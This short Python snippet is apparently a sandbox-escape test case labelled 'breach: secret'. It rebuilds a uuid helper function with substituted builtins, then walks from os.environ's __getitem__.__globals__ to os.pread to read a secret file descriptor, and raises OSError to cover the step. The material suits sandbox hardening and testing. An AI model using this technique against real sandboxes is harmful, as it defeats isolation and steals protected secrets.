# Code of the standard library with names of one's own is handed os.environ, and os.
# breach: secret
import types, uuid
def capture(environment):
    found.append(type(environment).__getitem__.__globals__["pread"](SECRET_FD, 100, 0))
    raise OSError
found = []
builtins = {"__import__": __import__, "dict": capture, "OSError": OSError}
ask = types.FunctionType(uuid._get_command_stdout.__code__, {"__builtins__": builtins})
ask("cat", "x")
found
